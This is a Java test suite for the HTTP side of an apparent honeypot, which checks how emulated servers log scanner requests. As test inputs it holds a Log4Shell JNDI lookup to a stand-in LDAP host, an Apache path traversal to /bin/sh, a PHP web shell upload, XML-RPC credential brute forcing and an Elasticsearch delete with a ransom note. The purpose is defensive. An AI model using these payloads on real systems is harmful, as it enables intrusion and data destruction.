package io.honeybee.pot.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.pot.InvalidOptionException;
import io.honeybee.pot.Observation;
import io.honeybee.pot.PotFixture;
import io.honeybee.pot.RealClient;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What curl sees, and what is reported of it. */
class HttpClientTest {
  private static final String PERSON = PotFixture.WORLD.people().getFirst().name();

  @TempDir Path directory;

  private PotFixture pot(String personality, String login) throws Exception {
    return PotFixture.start(
        HttpPotType.http(), directory, Map.of("personality", personality, "login", login));
  }

  private static String curl(PotFixture pot, String path, String... options) throws Exception {
    List<String> command = new ArrayList<>(List.of("curl", "-s", "-i", "--path-as-is"));
    command.addAll(List.of(options));
    command.add("http://127.0.0.1:" + pot.port() + path);
    return RealClient.run("", command.toArray(String[]::new)).output();
  }

  private static Map<String, Object> only(PotFixture pot, String type) {
    return pot.await(type, 1).getFirst().data();
  }

  @Test
  void aRequestIsReportedAsItWasSent() throws Exception {
    try (PotFixture pot = pot("nginx", "never")) {
      String answer = curl(pot, "/a/../b?x=%3Cscript%3E", "-A", "scan\u001b[31mner/1", "-d", "k=v");
      assertThat(answer).startsWith("HTTP/1.1 404 Not Found\r\nServer: nginx/1.22.1\r\n");
      assertThat(only(pot, "http.request"))
          .containsEntry("method", "POST")
          .containsEntry("url", "/a/../b?x=%3Cscript%3E")
          .containsEntry("query", "x=%3Cscript%3E")
          .containsEntry("http_version", "1.1")
          .containsEntry("host", "127.0.0.1:" + pot.port())
          .containsEntry("user_agent", "scan\u001b[31mner/1")
          .containsEntry("body", "k=v")
          .containsEntry("body_size", 3L)
          .containsEntry("status", 404)
          .containsEntry(
              "header_names",
              List.of("Host", "User-Agent", "Accept", "Content-Length", "Content-Type"))
          .doesNotContainKey("threat_technique_id");
    }
  }

  @Test
  void anExploitIsNamedWithItsTechnique() throws Exception {
    try (PotFixture pot = pot("apache", "never")) {
      curl(pot, "/cgi-bin/.%2e/.%2e/bin/sh", "-d", "id", "-H", "X: ${jndi:ldap://192.0.2.1/x}");
      assertThat(only(pot, "http.request"))
          .containsEntry("exploit", List.of("log4shell", "apache-path-traversal"))
          .containsEntry("cve", List.of("CVE-2021-44228", "CVE-2021-41773"))
          .containsEntry("threat_technique_id", List.of("T1190"))
          .containsEntry("status", 400);
    }
  }

  @Test
  void basicCredentialsAreLogins() throws Exception {
    try (PotFixture pot = pot("router", "list:admin/s3:cret")) {
      assertThat(curl(pot, "/cgi-bin/status", "-u", "admin:admin"))
          .startsWith("HTTP/1.1 401 Unauthorized")
          .contains("WWW-Authenticate: Basic realm=\"GPON Home Gateway\"");
      assertThat(curl(pot, "/cgi-bin/status", "-u", "admin:s3:cret"))
          .contains("Device Status")
          .contains(PotFixture.WORLD.network().address());
      assertThat(only(pot, "http.login.failed"))
          .containsEntry("username", "admin")
          .containsEntry("password", "admin")
          .containsEntry("method", "basic");
      assertThat(only(pot, "http.login.success")).containsEntry("password", "s3:cret");
    }
  }

  @Test
  void theRoutersFormIsALogin() throws Exception {
    try (PotFixture pot = pot("router", "never")) {
      assertThat(curl(pot, "/", "-L")).contains("formLogin").contains("Server: Boa/0.94.14rc21");
      assertThat(curl(pot, "/boaform/admin/formLogin", "-d", "username=adminisp&psd=adminisp"))
          .contains("ERROR:bad password!");
      assertThat(only(pot, "http.login.failed"))
          .containsEntry("username", "adminisp")
          .containsEntry("method", "form");
    }
  }

  @Test
  void wordPressTellsItsAuthorAndTakesLogins() throws Exception {
    try (PotFixture pot = pot("wordpress", "list:" + PERSON + "/summer")) {
      assertThat(curl(pot, "/")).contains("content=\"WordPress 6.6.2\"");
      assertThat(curl(pot, "/?author=1")).contains("/author/" + PERSON + "/");
      assertThat(curl(pot, "/wp-json/wp/v2/users")).contains("\"slug\":\"" + PERSON + "\"");
      assertThat(curl(pot, "/wp-login.php", "-d", "log=<script>&pwd=a"))
          .contains("<strong>&lt;script&gt;</strong> is not registered")
          .doesNotContain("<script>");
      assertThat(curl(pot, "/wp-login.php", "-d", "log=" + PERSON + "&pwd=a"))
          .contains("The password you entered for the username");
      assertThat(curl(pot, "/wp-login.php", "-d", "log=" + PERSON + "&pwd=summer"))
          .startsWith("HTTP/1.1 302 Found")
          .contains("Set-Cookie: wordpress_logged_in_");
      assertThat(pot.await("http.login.failed", 2))
          .extracting(o -> o.data().get("username"))
          .containsExactly("<script>", PERSON);
      pot.await("http.login.success", 1);
    }
  }

  @Test
  void everyCredentialOfAMulticallIsALogin() throws Exception {
    String call =
        "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string>"
            + "</value></member><member><name>params</name><value><array><data><value><array>"
            + "<data><value><string>admin</string></value><value><string>pN</string></value>"
            + "</data></array></value></data></array></value></member></struct></value>";
    StringBuilder body = new StringBuilder();
    body.append("<methodCall><methodName>system.multicall</methodName><params><param><value>");
    body.append("<array><data>");
    for (int i = 0; i < 40; i++) {
      body.append(call.replace("pN", "p" + i));
    }
    body.append("</data></array></value></param></params></methodCall>");
    Path file = Files.writeString(directory.resolve("call.xml"), body);
    try (PotFixture pot = pot("wordpress", "list:admin/p7")) {
      String answer = curl(pot, "/xmlrpc.php", "--data-binary", "@" + file);
      assertThat(answer.split("Incorrect username or password", -1)).hasSize(40);
      assertThat(pot.await("http.login.failed", 39))
          .allSatisfy(o -> assertThat(o.data()).containsEntry("method", "xmlrpc"));
      assertThat(only(pot, "http.login.success")).containsEntry("password", "p7");
    }
  }

  @Test
  void phpMyAdminTakesLoginsBesideTheServersOwnPage() throws Exception {
    try (PotFixture pot = pot("phpmyadmin", "never")) {
      assertThat(curl(pot, "/")).contains("Apache2 Debian Default Page");
      assertThat(curl(pot, "/phpmyadmin/")).contains("pma_username").contains("5.2.1deb1");
      assertThat(curl(pot, "/phpmyadmin/index.php", "-d", "pma_username=root&pma_password=toor"))
          .contains("Access denied for user 'root'@'localhost'");
      assertThat(only(pot, "http.login.failed"))
          .containsEntry("username", "root")
          .containsEntry("password", "toor");
    }
  }

  @Test
  void elasticsearchListsItsIndicesAndLetsThemBeDeleted() throws Exception {
    try (PotFixture pot = pot("elasticsearch", "never")) {
      assertThat(curl(pot, "/"))
          .contains("content-type: application/json; charset=UTF-8")
          .contains("\"name\" : \"" + PotFixture.WORLD.hostName() + "\"");
      assertThat(curl(pot, "/_cat/indices?v")).contains("customers").contains("docs.count");
      assertThat(curl(pot, "/_cluster/health")).contains("\"status\":\"yellow\"");
      assertThat(curl(pot, "/customers/_search?size=5")).contains("\"hits\"");
      assertThat(curl(pot, "/no%22%0d%0asuch")).contains("[no\\\"\\u000d\\u000asuch]");
      assertThat(curl(pot, "/customers", "-X", "DELETE")).contains("\"acknowledged\":true");
      assertThat(curl(pot, "/read_me/_doc/1", "-X", "PUT", "-d", "{\"m\":\"pay\"}"))
          .startsWith("HTTP/1.1 201 Created");
    }
  }

  @Test
  void uploadsAreCaptured() throws Exception {
    Path file = Files.writeString(directory.resolve("shell.php"), "<?php system($_GET[0]);");
    try (PotFixture pot = pot("apache", "never")) {
      curl(pot, "/uploads/shell.php", "-T", file.toString());
      curl(pot, "/up.php", "-F", "f=@" + file + ";filename=x.php");
      assertThat(pot.await("http.session.file_upload", 2))
          .extracting(o -> o.data().get("filename"))
          .containsExactly("/uploads/shell.php", "x.php");
      assertThat(pot.seen("http.session.file_upload"))
          .extracting(o -> o.data().get("shasum"))
          .containsOnly(pot.seen("http.session.file_upload").getFirst().data().get("shasum"));
      Map<String, Object> data = only(pot, "http.session.file_upload");
      assertThat(directory.resolve(String.valueOf(data.get("outfile"))))
          .hasSameBinaryContentAs(file);
    }
  }

  @Test
  void aClientThatWaitsIsAskedForItsBody() throws Exception {
    try (PotFixture pot = pot("apache", "never")) {
      String answer = curl(pot, "/", "-H", "Expect: 100-continue", "-d", "x=1");
      assertThat(answer).startsWith("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n");
    }
  }

  @Test
  void packedPagesCanBeUnpacked() throws Exception {
    try (PotFixture pot = pot("apache", "never")) {
      assertThat(curl(pot, "/", "--compressed"))
          .contains("Content-Encoding: gzip")
          .contains("Apache2 Debian Default Page");
    }
  }

  @Test
  void theServersNameIsConfigurableAndChecked() throws Exception {
    try (PotFixture pot =
        PotFixture.start(HttpPotType.http(), directory, Map.of("server", "nginx/1.18.0"))) {
      assertThat(curl(pot, "/x"))
          .contains("Server: nginx/1.18.0")
          .contains("<hr><center>nginx/1.18.0");
    }
    Assertions.assertThatThrownBy(
            () -> PotFixture.start(HttpPotType.http(), directory, Map.of("server", "a\r\nb")))
        .isInstanceOf(InvalidOptionException.class);
    Assertions.assertThatThrownBy(
            () -> PotFixture.start(HttpPotType.http(), directory, Map.of("personality", "iis")))
        .isInstanceOf(InvalidOptionException.class)
        .hasMessageContaining("elasticsearch");
  }

  @Test
  void oneConnectionIsOneSession() throws Exception {
    try (PotFixture pot = pot("nginx", "never")) {
      String url = "http://127.0.0.1:" + pot.port();
      RealClient.run("", "curl", "-s", url + "/1", url + "/2", url + "/3");
      List<Observation> requests = pot.await("http.request", 3);
      assertThat(requests)
          .extracting(o -> o.data().get("session"))
          .containsOnly(pot.await("http.session.closed", 1).getFirst().data().get("session"));
    }
  }
}
